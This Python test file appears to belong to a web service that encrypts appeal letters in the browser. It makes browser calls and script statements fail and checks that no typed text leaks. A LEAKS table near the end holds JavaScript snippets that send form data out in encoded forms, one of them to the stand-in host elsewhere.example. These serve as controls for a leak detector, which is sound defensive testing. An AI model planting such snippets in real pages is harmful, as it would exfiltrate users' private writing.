"""Whatever fails while the page seals, nothing that was typed leaves the browser, and nothing typed is lost.

Each thing that the page's script calls (what the browser offers, and each of its own statements) is made to fail, and
all bytes that the browser says meanwhile, to the site and to anybody else, are searched for what was typed.
"""

from __future__ import annotations

import json
import random
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from crypto.envelope import check_envelope
from crypto.keys import OrganizersKey
from service.settings import Settings
from service.site.rendering import Assets
from tests.browser.support.engines import Engine, driven
from tests.browser.support.recording_door import Door, door_to
from tests.support.node import node
from tests.support.paths import ROOT
from tests.support.sample_appeal import CODE
from tests.support.service_process import Served, serving
from tests.support.spellings import found_in

SUPPORT = Path(__file__).parent / "support"
FAILING = (SUPPORT / "failing.js").read_text("utf-8")
LETTER = {
    "name": "Марфа Żółćінская-Quay",
    "relation": "траюрадная zwrócona",
    "prisoner": "Язэп Ґжэгорскі",
    "vouch": "vexingly бусел",
    "contact": "@kwjxzqvymf",
    "message": "Пішу з-пад Smarhoń, не здавайся",
}
WITHDRAWAL = {"typed-code": CODE}
HAND_IN = {"envelope": " ".join(LETTER.values())}
PAGES = {"": LETTER, "withdraw": WITHDRAWAL, "hand-in": HAND_IN}
ENGINE_NAMES = ("chromium", "firefox-safer")
TOGETHER = 25

FEW = 20
# What sealing writes, draws and encodes with.
LYING = {"Crypto.getRandomValues", "TextEncoder.encode", "TypedArray.set", "DataView.setUint32", "JSON.stringify"}
# Of what a page calls while it starts, that whose failing leaves it furthest from whole.
STARTING = {
    "EventTarget.addEventListener",
    "Document.getElementById",
    "set HTMLElement.hidden",
    "Document.querySelectorAll",
}
GENERATOR_FAILS = {"name": "Crypto.getRandomValues", "nth": 1}

Plan = dict[str, Any]


def script_built(variant: str) -> str:
    """The page's script, built from its sources in one of the ways of variants.mjs."""
    build = [node(), str(SUPPORT / "variants.mjs"), variant]
    return subprocess.run(build, cwd=ROOT, check=True, capture_output=True, text=True).stdout


@pytest.fixture(scope="module")
def nowhere() -> Iterator[Door]:
    """Where everything arrives that is not meant for the site."""
    with door_to(None) as door:
        yield door


@pytest.fixture(scope="module", params=ENGINE_NAMES)
def started(request: pytest.FixtureRequest, nowhere: Door) -> Iterator[Engine]:
    """One browser for all tests of this file."""
    with driven(request.param, proxy=nowhere.server_address[1]) as engine:
        yield engine


@pytest.fixture(scope="module")
def site(settle: Callable[[str], Settings]) -> Iterator[Served]:
    """A service of its own: others count what theirs keeps."""
    settings = settle("failing")
    with serving(settings, settings.data.with_name("log")) as served:
        yield served


@pytest.fixture
def door(site: Served, nowhere: Door) -> Iterator[Door]:
    """The way to the site; nothing was heard yet."""
    nowhere.heard.clear()
    with door_to(site.url) as door:
        yield door


@pytest.fixture(scope="module")
def steps() -> str:
    """The page's script, in which each statement can be made to fail."""
    return script_built("steps")


@pytest.fixture(scope="module")
def leaking() -> str:
    """The page's script with a fallback, the control."""
    return script_built("leaking")


class Page:
    """A page of the site behind a door, in which calls can be made to fail."""

    def __init__(self, engine: Engine, door: Door, path: str, *before: str) -> None:
        self.engine, self.door, self.path = engine, door, path
        self.texts = PAGES[path]
        engine.do("fresh")
        engine.beforehand("\n".join([FAILING, *before]))
        self.open()

    def open(self, plan: Plan | None = None) -> None:
        """Anew; with a plan that holds from the start."""
        self.engine.open("about:blank")
        self.engine.open(f"{self.door.url}/en/{self.path}" + (f"#{quote(json.dumps(plan))}" if plan else ""))

    def counts(self) -> dict[str, int]:
        """What a try calls, and how often."""
        result = self.engine.evaluate(f"failing.attempt({json.dumps(self.texts)}, null)")
        assert result["came"] == ("mistake" if self.path == "hand-in" else "sent")
        return dict(result["counts"])

    def counts_of_start(self) -> dict[str, int]:
        """What the page calls until it stands, its form was touched and a try was made."""
        return dict(self.start({"name": "", "nth": 1})["counts"])

    def start(self, plan: Plan) -> dict[str, Any]:
        """What comes of a page in which that fails from its start on."""
        self.open(plan)
        texts = self.texts
        if self.path == "hand-in":
            # Key by key: of what a script has filled in, browsers do not check the length.
            self.engine.type("#envelope", texts["envelope"])
            texts = {}
        return dict(json.loads(self.engine.evaluate(f"failing.afterStart({json.dumps(texts)})")))

    def attempts(self, plans: list[Plan]) -> list[tuple[Plan, str, bool, bool]]:
        """Each plan, what came of it, whether the call was met, and whether all that was typed stayed."""
        results: list[tuple[Plan, str, bool, bool]] = []
        while len(results) < len(plans):
            some = plans[len(results) : len(results) + TOGETHER]
            told = self.engine.evaluate(f"failing.attempts({json.dumps(self.texts)}, {json.dumps(some)})")
            results += [(plan, *each) for plan, each in zip(some, json.loads(told), strict=False)]
            if results[-1][1] == "stuck":
                self.open()
        return results


def plans_for(counts: dict[str, int], most: int, **how: bool) -> list[Plan]:
    """Of each thing that is called: the first call, the last and some between, at most so many."""
    draw = random.Random(7)
    plans = []
    for name, count in sorted(counts.items()):
        some = draw.sample(range(1, count + 1), min(count, most))
        plans += [{"name": name, "nth": nth, **how} for nth in sorted({1, count, *some} if most > 1 else {1})]
    return plans


def nothing_out(door: Door, nowhere: Door, key: OrganizersKey, texts: dict[str, str]) -> None:
    """No typed piece was heard anywhere, and whatever was sent off is an envelope."""
    assert found_in(door.said() + b"\n" + nowhere.said(), texts.values()) == []
    for body in door.bodies:
        check_envelope(body, [key.record.key_id])


def wait_until(happened: Callable[[], bool]) -> None:
    """Until something was heard; AssertionError after a while."""
    deadline = time.monotonic() + 20
    while not happened():
        assert time.monotonic() < deadline
        threading.Event().wait(0.02)


def lost(results: list[tuple[Plan, str, bool, bool]]) -> list[object]:
    """Tries that ended without words, or with words and without what was typed."""
    return [
        each for each in results if each[1] == "stuck" or (each[1] in ("failed", "mistake", "retrying") and not each[3])
    ]


@pytest.mark.parametrize("most", [1, pytest.param(60, marks=pytest.mark.long)])
@pytest.mark.parametrize("path", ["", "withdraw"])
def test_each_call_of_the_browser_may_fail(
    started: Engine, door: Door, nowhere: Door, key: OrganizersKey, path: str, most: int
) -> None:
    """It throws: the person is told and keeps what was typed, or the envelope arrives after all."""
    page = Page(started, door, path)
    plans = plans_for(page.counts(), most)
    assert {"Crypto.getRandomValues", "new Uint8Array", "TextEncoder.encode", "fetch"} <= {
        plan["name"] for plan in plans
    }
    results = page.attempts(plans if most > 1 else plans[:: len(plans) // FEW])
    assert len([each for each in results if each[2]]) > 0.9 * len(results)
    assert lost(results) == []
    nothing_out(door, nowhere, key, page.texts)


def test_each_statement_of_the_script_may_fail(
    started: Engine, door: Door, nowhere: Door, key: OrganizersKey, steps: str
) -> None:
    """A statement here and there of the page's own code and of its libraries."""
    door.script = steps
    page = Page(started, door, "")
    plans = plans_for({name: 1 for name in page.counts() if name.startswith("statement")}, 1)
    assert len(plans) > 300
    results = page.attempts(plans[:: len(plans) // FEW])
    assert lost(results) == []
    nothing_out(door, nowhere, key, page.texts)


@pytest.mark.long
@pytest.mark.parametrize("path", PAGES)
def test_every_statement_of_the_script_may_fail(
    started: Engine, door: Door, nowhere: Door, key: OrganizersKey, steps: str, path: str
) -> None:
    """All that run in a try, each at its first and its last time and between."""
    door.script = steps
    page = Page(started, door, path)
    plans = plans_for({name: count for name, count in page.counts().items() if name.startswith("statement")}, 2)
    results = page.attempts(plans)
    assert len([each for each in results if each[2]]) > 0.9 * len(plans)
    assert lost(results) == []
    nothing_out(door, nowhere, key, page.texts)


@pytest.mark.parametrize("path", PAGES)
def test_what_fails_while_the_page_starts_opens_no_other_way(
    started: Engine, door: Door, nowhere: Door, key: OrganizersKey, path: str
) -> None:
    """A page that has started halfway sends nothing but envelopes: some calls of the start, in each page."""
    page = Page(started, door, path)
    plans = [plan for plan in plans_for(page.counts_of_start(), 1) if plan["name"] in STARTING]
    assert len(plans) == len(STARTING)
    for plan in plans:
        page.start(plan)
    nothing_out(door, nowhere, key, page.texts)


@pytest.mark.long
@pytest.mark.parametrize("path", PAGES)
@pytest.mark.parametrize("how", ["nth", "always", "nothing"])
def test_whatever_fails_while_the_page_starts_opens_no_other_way(
    started: Engine, door: Door, nowhere: Door, key: OrganizersKey, path: str, how: str
) -> None:
    """Every call, once or from then on, with an error or as if it had done its work."""
    page = Page(started, door, path)
    for plan in plans_for(page.counts_of_start(), 1 if how == "always" else 3):
        page.start(plan | {how: True})
    nothing_out(door, nowhere, key, page.texts)


@pytest.mark.parametrize("some", [LYING, pytest.param(None, id="all", marks=pytest.mark.long)])
@pytest.mark.parametrize("path", PAGES)
def test_a_browser_that_does_not_do_what_it_says_sends_no_plain_text(
    started: Engine, door: Door, nowhere: Door, key: OrganizersKey, path: str, some: set[str] | None
) -> None:
    """A call gives nothing and has done nothing: of each thing, the first."""
    page = Page(started, door, path)
    plans = plans_for(page.counts(), 1, nothing=True)
    page.attempts([plan for plan in plans if some is None or plan["name"] in some])
    nothing_out(door, nowhere, key, page.texts)


@pytest.mark.parametrize(
    "generator",
    ["(array) => array", "(array) => array.fill(7)", "(array) => array.map((byte, at) => at)", "() => null"],
)
def test_a_generator_that_repeats_itself_seals_nothing(
    started: Engine, door: Door, key: OrganizersKey, generator: str
) -> None:
    """Nothing, always the same, a row of numbers: whoever knows them could open the envelope."""
    page = Page(started, door, "", f"crypto.getRandomValues = {generator};")
    result = page.attempts([{"name": "", "nth": 1}])
    assert [each[1] for each in result] == ["failed"]
    assert door.bodies == []


@pytest.mark.parametrize("cuts", [3, pytest.param(400, marks=pytest.mark.long)])
def test_a_page_that_is_cut_off_offers_no_field(started: Engine, door: Door, nowhere: Door, cuts: int) -> None:
    """Anywhere in its bytes: what came of a script does not run, and what came of the form is hidden."""
    started.do("fresh")
    started.beforehand(FAILING)
    script = Assets.load().script.encode()
    started.open(f"{door.url}/en/")
    whole = len(started.evaluate("document.documentElement.outerHTML").encode()) - 500
    draw = random.Random(8)
    for cut in [*(draw.randrange(400, whole) for _ in range(cuts)), whole - len(script), whole]:
        door.cut = cut
        started.open(f"{door.url}/en/?{cut}")
        fields = "[...document.querySelectorAll('input, textarea, button')]"
        seen = f"{fields}.filter((each) => each.offsetParent !== null).length"
        assert started.evaluate(seen) == 0, cut
        started.evaluate(f"(() => {{ try {{ failing.fill({json.dumps(LETTER)}) }} catch {{}} }})()")
    assert found_in(door.said() + nowhere.said(), LETTER.values()) == []


def test_neither_a_key_nor_a_form_without_script_sends_what_is_typed(
    started: Engine, door: Door, nowhere: Door
) -> None:
    """Enter in a field, a form put around the fields, and the fields of a page whose script never came."""
    started.do("fresh")
    started.beforehand(FAILING)
    started.open(f"{door.url}/en/")
    started.visible("#submit")
    for field in ("name", "relation", "prisoner"):
        started.type(f"#{field}", LETTER[field])
        started.do("press", key="Enter")
    door.script = "throw new Error('never arrived whole')"
    started.open(f"{door.url}/en/")
    started.evaluate(f"failing.fill({json.dumps(LETTER)})")
    started.evaluate("document.getElementById('form').hidden = false")
    assert started.evaluate("document.forms.length") == 0
    started.evaluate(
        "(() => { const form = document.createElement('form'); form.action = '../aside';"
        " form.append(...document.getElementById('form').children); document.body.append(form);"
        " HTMLFormElement.prototype.submit.call(form) })()"
    )
    started.do("arrived", url=f"{door.url}/aside?visibility=nonpublic")
    assert found_in(door.said() + nowhere.said(), LETTER.values()) == []


LEAKS = {
    "as it is": "(typed) => fetch('/leak', { method: 'POST', body: JSON.stringify(typed) })",
    "in the address": "(typed) => fetch('/leak?' + encodeURIComponent(typed.name))",
    "in base64": "(typed) => fetch('/leak?' + btoa(unescape(encodeURIComponent('abc' + typed.name))))",
    "in a header": "(typed) => fetch('/leak', { headers: { X: escape(typed.name) } })",
    "as UTF-16": "(typed) => navigator.sendBeacon('/leak', Uint16Array.from(typed.name, (one) => one.charCodeAt(0)))",
    "in hexadecimal": "(typed) => fetch('/leak?' + Array.from(new TextEncoder().encode(typed.name), "
    "(byte) => byte.toString(16).padStart(2, '0')).join(''))",
    "compressed": "(typed) => new Response(new Blob([typed.name]).stream().pipeThrough(new CompressionStream('gzip')))"
    ".blob().then((body) => fetch('/leak', { method: 'POST', body }))",
    "only three letters": "(typed) => fetch('/leak?' + encodeURIComponent(typed.name.slice(1, 4)))",
    "to another site": "(typed) => { location.href = 'http://elsewhere.example/' + encodeURIComponent(typed.name) }",
}


@pytest.mark.parametrize("leak", LEAKS)
def test_a_page_that_sends_plain_text_when_sealing_fails_is_found(
    started: Engine, door: Door, nowhere: Door, leaking: str, leak: str
) -> None:
    """The control: the same page with a fallback."""
    door.script = leaking
    Page(started, door, "", f"window.fallback = {LEAKS[leak]};")
    started.do("evaluate", source=f"void failing.attempt({json.dumps(LETTER)}, {json.dumps(GENERATOR_FAILS)})")
    wait_until(lambda: b"/leak" in door.said() or b"elsewhere.example" in nowhere.said())
    # What a request carries may come after its first line.
    wait_until(lambda: LETTER["name"] in found_in(door.said() + nowhere.said(), LETTER.values()))
